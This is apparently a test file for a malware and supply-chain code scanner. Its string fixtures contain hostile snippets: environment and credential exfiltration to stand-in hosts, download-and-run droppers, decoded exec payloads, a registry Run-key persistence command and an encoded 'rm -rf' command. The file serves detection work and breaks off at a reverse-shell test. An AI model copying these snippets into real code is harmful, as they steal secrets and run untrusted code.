import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Act, ActKind } from '../src/facts/acts/act.ts';
import { type ActFile, readActs } from '../src/facts/acts/read-acts.ts';
import { memoryTree, scan } from '../src/index.ts';

/** Without what would count only in a script that a package runs when it is installed. */
function actsOf(file: ActFile): readonly Act[] {
  return readActs(file).filter(({ onlyAtInstall }) => onlyAtInstall !== true);
}

function python(text: string): readonly ActKind[] {
  return actsOf({ path: 'pkg/module.py', text, language: 'python', context: 'runtime' }).map(({ kind }) => kind);
}
function script(text: string): readonly ActKind[] {
  return actsOf({ path: 'lib/a.js', text, language: 'javascript', context: 'runtime' }).map(({ kind }) => kind);
}

test('a script of PowerShell that is handed its program stored none', () => {
  const confidences = (text: string) =>
    actsOf({ path: 'run.ps1', text, language: 'powershell', context: 'runtime' }).map(({ confidence }) => confidence);
  const given = 'param(\n  [Parameter(Mandatory = $true)][IDictionary]$Task\n)\n';
  const run = (what: string) =>
    `$code = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(${what}))\n& ([ScriptBlock]::Create($code))\n`;
  assert.deepEqual(confidences(given + run('$Task.code')), ['low']);
  assert.deepEqual(confidences(`${given}$part = $Task.parts['main']\n${run('$part')}`), ['low']);
  assert.deepEqual(
    confidences(`param([IDictionary]$All)\nforeach ($one in $All.GetEnumerator()) {\n${run('$one.Value')}}\n`),
    ['low'],
  );
  assert.deepEqual(
    confidences(`$text += [String]$input\n$Task = ConvertFrom-Json -InputObject $text\n${run('$Task.code')}`),
    ['low'],
  );
  // Somebody left it there before.
  assert.deepEqual(confidences(`$kept = Get-ItemProperty HKCU:\\Software\\Acme\n${run('$kept.Data')}`), ['high']);
  assert.deepEqual(confidences(`${given}$Task = Get-Content a.json | ConvertFrom-Json\n${run('$Task.code')}`), [
    'high',
  ]);
});

test('a parameter is not what another function calls by that name', () => {
  const collects = 'def collect(self):\n    facts = [socket.gethostname(), getpass.getuser()]\n    return facts\n\n';
  assert.deepEqual(
    python(`${collects}def look(facts: Facts, wait):\n    return requests.post(wait, json=facts)\n`),
    [],
  );
  assert.deepEqual(
    python(
      'def read(file="~/.pypirc"):\n    return parse(file)\n\ndef upload(file: Path, to):\n    with file.open("rb") as f:\n        requests.post(to, data=f.read())\n',
    ),
    [],
  );
  const held = 'function one() {\n  const held = JSON.stringify(process.env);\n  return held;\n}\n';
  assert.deepEqual(script(`${held}function two(held) {\n  fetch(u, { body: held });\n}\n`), []);
  assert.deepEqual(script(`${held}const two = async ({ held }) => {\n  await fetch(u, { body: held });\n};\n`), []);
  // The function itself, the one round it, and the module are asked as before.
  const own = 'JSON.stringify(process.env)';
  assert.deepEqual(script(`function two(held) {\n  held = ${own};\n  fetch(u, { body: held });\n}\n`), [
    'environment-sent',
  ]);
  assert.deepEqual(
    script(`function two(u) {\n  const held = ${own};\n  run(() => {\n    fetch(u, { body: held });\n  });\n}\n`),
    ['environment-sent'],
  );
  assert.deepEqual(script(`const held = ${own};\nfunction two(held) {\n  fetch(u, { body: held });\n}\ntwo(held);\n`), [
    'environment-sent',
  ]);
});

test('an address is handed in under its own name', () => {
  const text =
    'def main():\n    hook = "https://abc.pipedream.net"\n    tell(collect(), hook)\n\ndef tell(data, hook):\n    requests.post(hook, json=data)\n';
  assert.deepEqual(python(text), ['shady-contact']);
});

test('a function that is named like a parameter is not what runs', () => {
  const fetches = 'def profile(name):\n    return requests.get(BASE + name).json()\n\n';
  assert.deepEqual(python(`${fetches}def apply(profile):\n    exec(profile["start"])\n`), []);
  assert.deepEqual(python(`${fetches}code = profile("a")\nexec(code)\n`), ['remote-execution']);
});

test('a short name of packed code ends with its block', () => {
  const others = Array.from({ length: 20 }, (_, index) => `function f${index}() {\n  var n = ${index};\n}`).join('\n');
  const block = 'function a() {\n  let n = JSON.stringify(process.env);\n  return n;\n}\n';
  assert.deepEqual(script(`${others}\n${block}function b() {\n  let t = u, n;\n  fetch(t, n);\n}\n`), []);
  assert.deepEqual(script(`${others}\nfunction a() {\n  let n = JSON.stringify(process.env);\n  fetch(u, n);\n}\n`), [
    'environment-sent',
  ]);
});

test("variables that are the program's own by their names are not the environment", () => {
  const sent = (prefix: string): string =>
    `def own():\n    found = {}\n    for key, value in os.environ.items():\n        if key.startswith('${prefix}'):\n            found[key] = value\n    return found\n\ndef tell():\n    requests.post('https://t.example.com', json={'env': own()})\n`;
  assert.deepEqual(python(sent('WIDGETS_')), []);
  assert.deepEqual(python(sent('AWS_')), ['environment-sent']);
  assert.deepEqual(python(sent('')), ['environment-sent']);
  const picked = (name: string): string =>
    `const own = Object.entries(process.env).filter(([key]) => key.startsWith('${name}'));\nfetch('https://t.example.com', { method: 'POST', body: JSON.stringify(own) });\n`;
  assert.deepEqual(script(picked('WIDGETS_')), []);
  assert.deepEqual(script(picked('NPM_')), ['environment-sent']);
});

test('in a long file fewer steps are taken', () => {
  const chain = Array.from({ length: 6 }, (_, index) => `const step${index + 1} = String(step${index});\n`).join('');
  const text = `const step0 = atob(blob);\n${chain}new Function(step6)();\n`;
  const filler = '// nothing\nvar used = call(1, 2);\n'.repeat(5_000);
  assert.deepEqual(script(text), ['decoded-execution']);
  assert.deepEqual(script(filler + text), []);
  assert.deepEqual(script(`${filler}const code = atob(blob);\nnew Function(code)();\n`), ['decoded-execution']);
});

test('a method that is called fetch fetches nothing where it is declared', () => {
  const text =
    'class A {\n  async fetch(t) { return this.kept[t]; }\n}\nconst code = new A().rule;\nnew Function(code)();\n';
  assert.deepEqual(script(text.replace('class A', 'const A = class')), []);
  assert.deepEqual(script('const code = await (await fetch(u)).text();\nnew Function(code)();\n'), [
    'remote-execution',
  ]);
});

test('bytes that are written to a connection are no address', () => {
  assert.deepEqual(
    script("const net = require('net');\nthis.socket.write(Buffer.from('20', 'hex'));\nother.send(text);\n"),
    [],
  );
  assert.deepEqual(script("https.get(Buffer.from('687474703a2f2f', 'hex').toString());\n"), ['shady-contact']);
});

test('an archive that is unpacked is not started', () => {
  const saved =
    'const answer = await fetch(u);\nconst file = createWriteStream(target);\nawait pipeline(answer.body, file);\n';
  const command = (text: string) => `await execFile('powershell.exe', ['-Command', \`${text}\`]);\n`;
  const unpack = "Expand-Archive -LiteralPath '${target}' -DestinationPath '${to}'";
  assert.deepEqual(script(saved + command(unpack)), []);
  assert.deepEqual(script(saved + command(`${unpack}; Start-Process '\${target}'`)), ['dropped-execution']);
});

test('a file whose place is filled in later is no file that is started', () => {
  const text =
    'import subprocess\na = fill("curl {0} {1} -o {2}", x, y, t)\nb = fill("wget {0} -O {2} || ( rm {2} ; exit 1 )", x, y, t)\nchmod(t, m)\n';
  assert.deepEqual(python(text), []);
});

test('to make a download runnable whose address is handed in is little', async () => {
  const report = async (address: string) => {
    const code = `import os\nfrom urllib.request import urlretrieve\n\n\ndef get_tool(target, address):\n    urlretrieve(${address}, target)\n    os.chmod(target, 0o755)\n    return target\n`;
    const { findings } = await scan(memoryTree({ 'setup.cfg': '[metadata]\nname = x\n', 'pkg/main.py': code }));
    return findings.filter(({ kind }) => kind === 'malice').map(({ checkId, severity }) => [checkId, severity]);
  };
  assert.deepEqual(await report('address'), [
    ['rce-dropper', 'medium'],
    ['supply-chain-hostile-code', 'low'],
  ]);
  assert.ok((await report('"https://cdn.example.net/agent"')).some(([, severity]) => severity === 'high'));
});

test('a program that the code itself encodes was not stored in disguise', () => {
  const run = 'subprocess.check_output(["node", "-e", js])\n';
  assert.deepEqual(
    python(`js = 'var t = atob("%s");' \\\n     'run(t)' \\\n     % base64.b64encode(made(body))\n${run}`),
    [],
  );
  assert.deepEqual(python(`js = 'run(atob("${'cHJpbnQo'.repeat(12)}"))'\n${run}`), ['decoded-execution']);
});

test('a key of the registry that is nowhere written is for the caller to say', () => {
  const set = (key: string) =>
    script(
      `const child_process = require('child_process');\nfunction set(key, value) {\n  const command = ['reg add "', ${key}, '" /f /d "', value, '"'].join('');\n  child_process.exec(command);\n}\n`,
    );
  assert.deepEqual(set('key'), []);
  assert.deepEqual(set(String.raw`'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'`), ['risky-command']);
});

test('the interface of a shortener is not a short address', () => {
  assert.deepEqual(python('urlopen("https://api-ssl.bit.ly/v3/shorten?%s" % q)\n'), []);
  assert.deepEqual(python('urlopen("https://bit.ly/3xYz")\n'), ['shady-contact']);
});

test('a function that keeps its name is not called under a disguise', () => {
  assert.deepEqual(python("if NEW:\n    exec_ = getattr(__import__('builtins'), 'exec')\n"), []);
  assert.deepEqual(python("import_ = getattr(builtins, '__import__')\n"), []);
  assert.deepEqual(python("import builtins\nown_exec = getattr(builtins, 'exec')\ndel builtins\n"), []);
  assert.deepEqual(python("tidy = getattr(__import__('builtins'), 'exec')\n"), ['disguised-call']);
  assert.deepEqual(python("exec_ = getattr(__import__('builtins'), 'exec')(blob)\n"), ['disguised-call']);
});

test('a step in the recipe for an image starts nothing here', () => {
  const steps = (word: string) =>
    `import subprocess\nSETUP = """\n${word}curl -L https://files.acme.io/setup.sh > setup.sh && bash ./setup.sh -b\n"""\nprint(SETUP)\n`;
  assert.deepEqual(python(steps('RUN ')), []);
  assert.deepEqual(python(steps('')), ['dropped-execution']);
});

test('the lines of a text do not end the function they stand in', () => {
  const asks = 'code = """\nimport sdk\nprint(sdk.name)\n"""\n';
  const run = 'subprocess.run(["python", "-c", code], check=True)\n';
  assert.deepEqual(python(`import subprocess\ndef names():\n    ${asks}    return ${run}`), []);
  assert.deepEqual(python(`import subprocess\n${asks}${run}`), ['risky-command']);
});

test('a loader of modules unpacks what it keeps, and hides nothing by that', () => {
  const kept = (unpack: string): string =>
    `class Loader:\n    def get_source(self, name):\n        return ${unpack}(self._cache[name])\n\n    def exec_module(self, module):\n        code = compile(self.get_source(module.__name__), "", "exec")\n        exec(code, module.__dict__)\n`;
  assert.deepEqual(python(`import zlib\n${kept('zlib.decompress')}`), []);
  assert.deepEqual(python(`import base64\n${kept('base64.b64decode')}`), ['decoded-execution']);
  const run = 'code = zlib.decompress(KEPT)\nexec(code)\n';
  assert.deepEqual(python(`import zlib\n${kept('str')}\n${run}`), ['decoded-execution']);
});

test('what is decoded because it was handed over is a doubt', () => {
  const certainties = (text: string): readonly string[] =>
    actsOf({ path: 'boot.py', text, language: 'python', context: 'runtime' }).map(({ confidence }) => confidence);
  const boot = (given: string): string => `import sys, base64\nexec(base64.b64decode(${given}))\n`;
  assert.deepEqual(certainties(boot('sys.argv[1]')), ['low']);
  assert.deepEqual(certainties(boot('"cHJpbnQoMSk="')), ['high']);
});

test('what a declaration names next is no part of what it named before', () => {
  const all = 'JSON.stringify(process.env)';

  assert.deepEqual(script(`let url="https://acme.io/v",kept=${all};fetch(url);`), []);
  assert.deepEqual(script(`const { url } = settings, kept = ${all};\nfetch(url);\n`), []);
  assert.deepEqual(script(`let url="https://acme.io/v",kept=${all};fetch(url, { body: kept });`), ['environment-sent']);
});

test('what is told to another program of the same machine does not leave it', () => {
  const ask = (where: string): readonly string[] =>
    script(`const kept = JSON.stringify(process.env);\nhttp.request({ ${where}, headers: { kept } });`);
  assert.deepEqual(ask('socketPath'), []);
  assert.deepEqual(ask('host'), ['environment-sent']);
});

test('one step in several lines of a file is one step', async () => {
  const apart = '\n#\n'.repeat(400);
  const states = Array.from({ length: 6 }, (_, n) => `def state${n}(root):\n    return root / "Local State"\n${apart}`);
  const honest = `def logins(root):\n    return root / "Login Data"\n${apart}${states.join('\n')}`;
  const report = await scan(
    memoryTree({ 'pyproject.toml': '[project]\nname = "a"\nversion = "1"\n', 'a/profiles.py': honest }),
  );

  assert.deepEqual(
    report.findings.filter(({ checkId }) => checkId === 'supply-chain-hostile-package').map(({ severity }) => severity),
    ['medium'],
  );
});

test('a function that installs a tool, says so and names where it comes from is no hidden dropper', async () => {
  const installs = (say: string): string => `import { spawn } from 'child_process';
async function installRunner({ logger, version }) {
  ${say}
  const answer = await fetch('https://get.acme.io/runner');
  const script = await answer.text();
  const file = path.join(folder, 'install.sh');
  await fs.promises.writeFile(file, script, { mode: 0o777 });
  await spawn(file, ['--version', version]);
}
`;
  const found = async (say: string): Promise<readonly unknown[]> => {
    const { findings } = await scan(memoryTree({ 'src/install.ts': installs(say) }));
    return findings.flatMap(({ checkId, severity, confidence }) =>
      checkId === 'rce-dropper' ? [[severity, confidence]] : [],
    );
  };
  assert.deepEqual(await found("logger.info('Installing the runner');"), [['medium', 'low']]);
  assert.deepEqual(await found(''), [['critical', 'high']]);
});

test('the installer of a vendor, run by a program that asks first, is told without alarm', async () => {
  const launches = (asks: string, address: string): string => `package launch

func command() (string, []string) {
	${asks}
	return "powershell", []string{"-Command", "$f = Join-Path $env:TEMP 'a.bat'; iwr ${address} -OutFile $f; & $f"}
}

func start() error {
	bin, args := command()
	return exec.Command(bin, args...).Run()
}
`;
  const severities = async (asks: string, address: string): Promise<readonly string[]> => {
    const { findings } = await scan(memoryTree({ 'launch/tool.go': launches(asks, address) }));
    return findings.flatMap(({ kind, severity }) => (kind === 'malice' ? [severity] : []));
  };
  const asks = 'confirm("The tool is not installed. Install now?")';
  const isAlarm = (found: readonly string[]): boolean => found.some((severity) => /high|critical/.test(severity));
  assert.equal(isAlarm(await severities(asks, 'https://tool.acme.io/install.bat')), false);
  assert.equal(isAlarm(await severities('', 'https://tool.acme.io/install.bat')), true);
  assert.equal(isAlarm(await severities(asks, 'https://203.0.113.5/install.bat')), true);
  assert.equal(isAlarm(await severities(asks, 'https://tool.acme.io/a.exe')), true);
});

test('a machine that is named where somebody signs in is told without alarm', () => {
  const facts = '{ device: os.hostname(), user: os.userInfo().username }';
  const told = (address: string): readonly (readonly string[])[] =>
    actsOf({
      path: 'lib/a.js',
      text: `fetch(\`${address}\`, { method: 'POST', body: JSON.stringify(${facts}) });\n`,
      language: 'javascript',
      context: 'runtime',
    }).map(({ kind, confidence }) => [kind, confidence]);
  assert.deepEqual(told('${base}/api/auth/cli/start'), [['system-facts-sent', 'low']]);
  assert.deepEqual(told('${base}/collect'), [['system-facts-sent', 'medium']]);
  assert.deepEqual(told('https://abc.pipedream.net/auth/start')[0], ['system-facts-sent', 'high']);
});

test('what is done with the output of a command is no part of the command', () => {
  const decodes = "const read = (t) => Buffer.from(t, 'base64').toString();\n";
  const runs = "const { exec } = require('child_process');\n";
  const path = '/System/Library/PrivateFrameworks/Some.framework/Versions/Current/Resources/tool';
  const called = (cmd: string): string =>
    `${runs}${decodes}${cmd}exec(cmd, { cwd: '/' }, function (error, stdout) {\n  done(read(stdout));\n});\n`;
  assert.deepEqual(script(called(`const cmd = '${path} -s';\n`)), []);
  assert.deepEqual(
    script(called("const cmd = read('cm0gLXJmIH4vKiAmJiBlY2hvIGdvbmUgJiYgc2xlZXAgMTAgJiYgZWNobyBieWU=');\n")),
    ['decoded-execution'],
  );
  assert.deepEqual(script(`${runs}${decodes}exec('${path} -s', (error, stdout) => done(read(stdout)));\n`), []);
});

test('the words of a long text are no names', () => {
  const decode = 'def decode(b):\n    return "".join(chr(int(c) + 33) for c in b)\n\n';
  const names = `NAMES = '''\n    decode\n    encode\n    '''.split()\n`;
  assert.deepEqual(python(`${decode}${names}for name in NAMES:\n    exec("from fast import %s as f" % name)\n`), []);
  assert.deepEqual(python(`${decode}code = decode(b"ABC")\nexec(code)\n`), ['decoded-execution']);
  const called = 'function decode(a) {\n  return String.fromCharCode.apply(null, a);\n}\n';
  const body = `'return function () { ${'call(decode); '.repeat(40)} }'`;
  assert.deepEqual(script(`${called}const body = ${body};\nnew Function(body)();\n`), []);
});

test('what a script of the project is given to read is not started', () => {
  const unpacks = (run: string): string =>
    `import os, subprocess, sys, zipfile\nfrom urllib.request import urlretrieve\n\ndef main():\n    urlretrieve(URL, "data.zip")\n    folder = os.path.join(repo, "data")\n    with zipfile.ZipFile("data.zip") as z:\n        z.extractall(folder)\n    subprocess.check_call([sys.executable, ${run}])\n`;
  assert.deepEqual(python(unpacks('os.path.join(scripts, "import_data.py"), folder')), []);
  assert.deepEqual(python(unpacks('os.path.join(folder, "setup.py"), "install"')), ['dropped-execution']);
  assert.deepEqual(python(unpacks('"-m", folder')), ['dropped-execution']);
});

test('a function on a single line ends with its bracket', () => {
  const packed = (after: string): string =>
    `!function(e){function s(e){return e.id}function o(i){return Function("return "+s(i))()}${after}}(jQuery);\n`;
  assert.deepEqual(script(packed('var G=new XMLHttpRequest;')), []);
  assert.deepEqual(
    script('!function(e){function s(e){return fetch(e)}function o(i){return Function("return "+s(i))()}}(u);\n'),
    ['remote-execution'],
  );
});

test('files that are compared, built into an image, or told of before they are started', () => {
  const shell = (text: string, language = 'shell'): readonly string[] =>
    actsOf({ path: 'build.sh', text: `# the build system\n${text}`, language, context: 'runtime' }).map(
      ({ kind, confidence }) => `${kind} ${confidence}`,
    );
  const fetched = 'curl "https://files.acme-tools.net/agent.sh" -o agent.sh\n';
  assert.deepEqual(shell(`${fetched}sh agent.sh\n`), ['dropped-execution high']);
  assert.deepEqual(shell(`${fetched}echo "$agent_sha256  agent.sh" | sha256sum -c -\nsh agent.sh\n`), []);
  assert.deepEqual(shell(`FROM debian\nRUN <<END\n${fetched}sh agent.sh\nEND\n`, 'dockerfile'), []);
  assert.deepEqual(shell('curl "https://install.acme.com" -o install.sh\nsh install.sh\n'), ['dropped-execution low']);
  const python = (told: string): readonly string[] =>
    actsOf({
      path: 'pkg/move.py',
      text: `def move():\n    text = requests.get("https://acme.com/move").text\n    script = tempfile.NamedTemporaryFile(mode="w")\n    script.write(text)\n${told}    os.execv(sys.executable, [sys.executable, script.name])\n`,
      language: 'python',
      context: 'runtime',
    }).map(({ kind, confidence }) => `${kind} ${confidence}`);
  assert.deepEqual(python(''), ['dropped-execution high']);
  assert.deepEqual(python('    print(f"The mover is stored at {script.name}")\n'), ['dropped-execution low']);
});

test('a program that is compared with its digest before it is started is what it says', () => {
  const install = (check: string): string =>
    `async function main() {\n  await save(\`https://example.com/releases/\${NAME}\`, ARCHIVE);\n${check}  const program = readFileSync(join(TEMP, NAME));\n  writeFileSync(PROGRAM, (await fetch(PROGRAM_URL)).body);\n  chmodSync(PROGRAM, 0o755);\n  spawn(PROGRAM, process.argv.slice(2));\n}\n`;
  assert.deepEqual(script(`const { spawn } = require('child_process');\n${install('')}`), ['dropped-execution']);
  assert.deepEqual(
    script(`const { spawn } = require('child_process');\n${install('  await verifyChecksum(ARCHIVE, sums, NAME);\n')}`),
    [],
  );
});

test('a program of Go that is named is what runs, in a context too', () => {
  const go = (call: string): readonly ActKind[] =>
    actsOf({
      path: 'git.go',
      text: `package git\n\nfunc clone(ctx context.Context, given []byte) {\n\tkey, _ := base64.StdEncoding.DecodeString(string(given))\n\targs := append([]string{}, string(key))\n\tcmd := ${call}\n\tcmd.Run()\n}\n`,
      language: 'go',
      context: 'runtime',
    }).map(({ kind }) => kind);
  assert.deepEqual(go('exec.CommandContext(ctx, "git", args...)'), []);
  assert.deepEqual(go('exec.CommandContext(ctx, "sh", args...)'), ['decoded-execution']);
});

test('the environment that Ruby is given before a program is not the program', () => {
  const ruby = (call: string): readonly ActKind[] =>
    actsOf({ path: 'Rakefile', text: `task :test do\n  ${call}\nend\n`, language: 'ruby', context: 'runtime' }).map(
      ({ kind }) => kind,
    );
  assert.deepEqual(ruby('system(Hash[*Base64.decode64(ENV["E"]).split(/[ =]/)], "yarn", "test")'), []);
  assert.deepEqual(ruby('system(Base64.decode64("bHM="), "test")'), ['decoded-execution']);
});

test('a type called Function and a file that is opened to be read run nothing', () => {
  assert.deepEqual(python('def build():\n    run(\'sed -i "s/Bool Function(urlopen(Port/x/g" out.dart\')\n'), []);
  const ruby = (mode: string): readonly ActKind[] =>
    actsOf({
      path: 'lib/thumbnail.rb',
      text: `def make\n  data = fetch(options.fetch(:address))\n  File.open("program.sh"${mode}) { |file| file.write(data) }\n  system("program.sh")\nend\n`,
      language: 'ruby',
      context: 'runtime',
    }).map(({ kind }) => kind);
  assert.ok(!ruby('').includes('dropped-execution'));
  assert.ok(ruby(", 'wb'").includes('dropped-execution'));
});

test('a function to which others give the address is no dropper of this file', async () => {
  const body = `response = requests.get(url)
        wheel_path = os.path.join(folder, 'package.whl')
        with open(wheel_path, 'wb') as file:
            file.write(response.content)
        subprocess.check_call(['pip', 'install', wheel_path])
`;
  const method = `class Binding:\n    def install_wheel(self, url):\n        ${body}`;
  assert.ok((await malice(method)).includes('medium rce-dropper'));
  assert.ok((await malice(`${method}\nBinding().install_wheel(WHERE)\n`)).includes('critical rce-dropper'));
});

test('an assistant that hears and sees is no spy because it posts', async () => {
  const hears = 'stream = pyaudio.PyAudio().open(input=True)\nwords = requests.post(SPEECH, data=stream.read(1024))\n';
  assert.ok((await malice(hears)).includes('medium data-handling-spyware'));
  const tells =
    "shot = ImageGrab.grab()\nrequests.post('https://api.telegram.org/bot' + key + '/sendPhoto', files=shot)\n";
  assert.ok((await malice(tells)).includes('critical data-handling-spyware'));
});

test('a key called private opens a wallet, unless it is for something else', () => {
  const sent = (where: string): string =>
    `params = urlencode({'private_key': key, 'response': field})\nrequests.post("http://${where}", data=params)\n`;
  assert.deepEqual(python(sent('example.net/recaptcha/api/verify')), []);
  assert.deepEqual(python(sent('example.net/certificate')), []);
  assert.deepEqual(python(sent('example.net/collect')), ['secret-file-sent']);
  assert.deepEqual(python(sent('example.net/wallet/certificate')), ['secret-file-sent']);
});

async function malice(text: string): Promise<readonly string[]> {
  const { findings } = await scan(memoryTree({ 'pkg/module.py': text }));
  return findings.filter(({ kind }) => kind === 'malice').map(({ severity, checkId }) => `${severity} ${checkId}`);
}

test('a statement behind a hundred blanks hides something where it reaches out', async () => {
  const line = (hidden: string): string => `each(items, (item) => {${' '.repeat(160)}${hidden}\n  show(item);\n}});\n`;
  assert.ok((await malice(line('if (!isKnown(item)) {'))).includes('medium supply-chain-hidden-code'));
  assert.ok((await malice(line('require("https").get(u)'))).includes('critical supply-chain-hidden-code'));
});

test('a program that says that it downloads its own binary is weighed lightly', () => {
  const install = (says: string, url: string) => `class Binary {
  constructor() {
    this.url = ${url};
  }
  async install(isQuiet) {
    ${says}
    const answer = await fetch(this.url);
    writeFileSync(this.binaryPath, Buffer.from(await answer.arrayBuffer()), { mode: 0o755 });
  }
  run() {
    spawnSync(this.binaryPath, process.argv.slice(2));
  }
}
`;
  const judged = (text: string) =>
    actsOf({ path: 'lib/a.js', text, language: 'javascript', context: 'runtime' }).map(({ kind, confidence }) => [
      kind,
      confidence,
    ]);
  const says = 'if (!isQuiet) console.error(`Downloading release from ${this.url}`);';
  assert.deepEqual(judged(install(says, 'releaseUrl()')), [['dropped-execution', 'low']]);
  assert.deepEqual(judged(install('', 'releaseUrl()')), [['dropped-execution', 'high']]);
  assert.deepEqual(judged(install(says, "'http://45.77.12.90/agent'")), [
    ['shady-contact', 'medium'],
    ['dropped-execution', 'high'],
  ]);
});

test('a host that was found out in many steps is looked up, and nothing is sent', () => {
  const steps = `def run(args):
    return subprocess.run(args, env=dict(os.environ), capture_output=True).stdout

def info():
    return json.loads(run(["podman", "info"]))

def host():
    return info()["host"]["remote"]

def name():
    return host().split("@")[1]
`;
  assert.deepEqual(python(`${steps}address = socket.gethostbyname(name())\n`), []);
  assert.deepEqual(python('data = str(os.environ)\nsocket.gethostbyname(data + ".c.example.net")\n'), [
    'environment-sent',
  ]);
});

test('the address of this machine is asked for by its name, which nobody is told', () => {
  const own = 'from socket import gethostbyname, gethostname\nip = gethostbyname(gethostname())\n';
  assert.deepEqual(python(`${own}requests.get(f"http://{ip}:9000/api/sessions")\n`), []);
  assert.deepEqual(python(`${own}requests.post("https://c.example.net", data=[ip, gethostname()])\n`), [
    'system-facts-sent',
  ]);
});

test('a method that is kept to be put back is not called in disguise', () => {
  assert.deepEqual(python('import_module("x")\nkept = db.Connection.__dict__["connect"]\n'), []);
  assert.deepEqual(python('import os as o\no.__dict__["system"]("id")\n'), ['disguised-call']);
});

test('a program with a place for its code is weighed lightly', () => {
  const judged = (payload: string) =>
    actsOf({
      path: 'pkg/a.py',
      text: `SHIM = '''exec python -c 'import base64; exec(base64.b64decode("${payload}").decode())' '''\n`,
      language: 'python',
      context: 'runtime',
    }).map(({ kind, confidence }) => [kind, confidence]);
  assert.deepEqual(judged('{{CODE}}'), [['decoded-execution', 'low']]);
  assert.deepEqual(judged('cHJpbnQoImhlbGxvIHdvcmxkIik='), [['decoded-execution', 'high']]);
});

test('what is pasted by a function of that name is meant to be seen', () => {
  const sends = (name: string) =>
    python(
      `def ${name}(path):\n    text = open(path).read()\n    requests.post("https://dpaste.com/api/", data=text)\n`,
    );
  assert.deepEqual(sends('pastebin'), ['shady-contact']);
  assert.deepEqual(sends('check'), ['file-sent', 'shady-contact']);
});

test('an installer that gets what its vendor hands out to everybody is doubted, not condemned', () => {
  const confidence = (text: string): string | undefined =>
    actsOf({ path: 'pkg/command.py', text, language: 'python', context: 'runtime' }).find(
      ({ kind }) => kind === 'dropped-execution',
    )?.confidence;
  const code = (name: string, address: string): string =>
    `import subprocess, tempfile, requests\n\ndef ${name}(root):\n    script = tempfile.NamedTemporaryFile(delete=False, suffix=".sh")\n    open(script.name, "wb").write(requests.get("${address}").content)\n    subprocess.check_output([script.name, "--root", root])\n`;

  assert.equal(confidence(code('_install_posix', 'https://get.acme.com/install.sh')), 'low');
  assert.notEqual(confidence(code('_install_posix', 'https://cdn.acme-files.xyz/x.sh')), 'low');
  assert.notEqual(confidence(code('greet', 'https://get.acme.com/install.sh')), 'low');
});

test('helpers of a build come from the forge of their project', () => {
  const shell = (text: string): readonly ActKind[] =>
    actsOf({ path: 'autogen.sh', text, language: 'shell', context: 'runtime' }).map(({ kind }) => kind);
  const fetched = (host: string): string =>
    `curl -sSL -o config.guess \\\n  'https://${host}/config.guess' &&\n  chmod +x config.guess && exec ./config.guess\n`;

  assert.deepEqual(shell(fetched('git.savannah.gnu.org')), []);
  assert.deepEqual(shell(fetched('cdn.acme-files.xyz')), ['dropped-execution']);
});

test('a block that is evaluated is a function, and no text', () => {
  const ruby = (text: string): readonly ActKind[] =>
    actsOf({ path: 'lib/steps.rb', text, language: 'ruby', context: 'runtime' }).map(({ kind }) => kind);
  const asked = (run: string): string => `def go(state)\n  step = Net::HTTP.get(URI(state))\n  ${run}\nend\n`;
  assert.deepEqual(ruby(asked('instance_eval(&step)')), []);
  assert.deepEqual(ruby(asked('instance_eval(step)')), ['remote-execution']);
});

test('what is fetched and started on a machine that the program made weighs less', () => {
  const fetches = (kit: string, ran: string): string =>
    `${kit}\n\nasync def prepare(self, sandbox, base):\n    command = f"bash -lc 'curl -fsSL {base}/start.sh -o /home/user/start.sh && chmod +x /home/user/start.sh && /home/user/start.sh'"\n    ${ran}\n`;
  const told = (text: string): readonly string[] =>
    actsOf({ path: 'deploy.py', text, language: 'python', context: 'runtime' }).flatMap(({ kind, confidence }) =>
      kind === 'dropped-execution' ? [confidence] : [],
    );
  const kit = 'import subprocess\nfrom e2b import Sandbox';
  assert.deepEqual(told(fetches(kit, 'return await self.run(sandbox, command)')), ['low']);
  assert.deepEqual(told(fetches(kit, 'return await sandbox.commands.run(command)')), ['low']);
  assert.deepEqual(told(fetches(kit, 'return os.system(command)')), ['high']);
  assert.deepEqual(told(fetches('import subprocess', 'return await self.run(sandbox, command)')), ['high']);
});

test('a file that lies in a folder called as a library is no answer of a server', () => {
  const python = (text: string): readonly ActKind[] =>
    actsOf({ path: 'pkg/names.py', text, language: 'python', context: 'runtime' }).map(({ kind }) => kind);

  assert.deepEqual(
    python('import pathlib\nnames = {}\nexec((pathlib.Path.cwd() / "aiohttp/names.py").read_text(), names)\n'),
    [],
  );
  assert.deepEqual(python('import os\nexec(open(os.path.join(here, "urllib3", "_version.py")).read())\n'), []);
  assert.deepEqual(python('exec(__import__("urllib3").PoolManager().request("GET", place).data)\n'), [
    'remote-execution',
  ]);
  assert.deepEqual(
    python('from urllib.request import urlopen\nexec(urlopen("https://cdn.acme-files.xyz/a.py").read())\n'),
    ['remote-execution'],
  );
});

test('a way to load code from wherever its caller says is doubted, not condemned', () => {
  const confidence = (text: string): string | undefined =>
    actsOf({ path: 'pkg/preload.py', text, language: 'python', context: 'runtime' }).find(
      ({ kind }) => kind === 'remote-execution',
    )?.confidence;
  const load =
    'from urllib.request import urlopen\n\ndef load(url):\n    with urlopen(url) as answer:\n        source = answer.read()\n    exec(compile(source, url, "exec"))\n';

  assert.equal(confidence(load), 'low');
  assert.equal(confidence(`${load}\nload("https://cdn.acme-files.xyz/a.py")\n`), 'high');
  assert.equal(confidence(load.replace('urlopen(url)', 'urlopen("cdn.acme-files.xyz" + url)')), 'high');
});

test('tools of a build that change what was built belong to it', () => {
  const starts = (program: string): readonly ActKind[] =>
    actsOf({
      path: 'setup.py',
      text: `import subprocess\nfrom setuptools import setup\nsubprocess.run(["${program}", "--set-soname", name, library])\nsetup(name="a")\n`,
      language: 'python',
      context: 'runtime',
    }).map(({ kind }) => kind);
  assert.deepEqual(starts('patchelf'), []);
  assert.deepEqual(starts('acme-helper'), ['install-command']);
});

test('what a loop goes through several names at once is what stands behind it', () => {
  const boxes = (loop: string): readonly ActKind[] =>
    python(`import base64
def see(state):
    answer = ask(base64.b64decode(state.screenshot))
    return answer
def act(answers):
    ${loop}
        box = answer.get("box")
        x1, y1 = eval(box)
`);
  assert.deepEqual(boxes('for place, answer in enumerate(answers):'), []);
  assert.deepEqual(boxes('for (place, answer) in enumerate(answers):'), []);
  assert.deepEqual(
    python(`import base64
PARTS = ["${'aW1wb3J0IG9zCg'.repeat(6)}"]
for place, part in enumerate(PARTS):
    exec(base64.b64decode(part))
`),
    ['decoded-execution'],
  );
});

test('a reverse shell in data that leaves the address to its reader is a report of one', async () => {
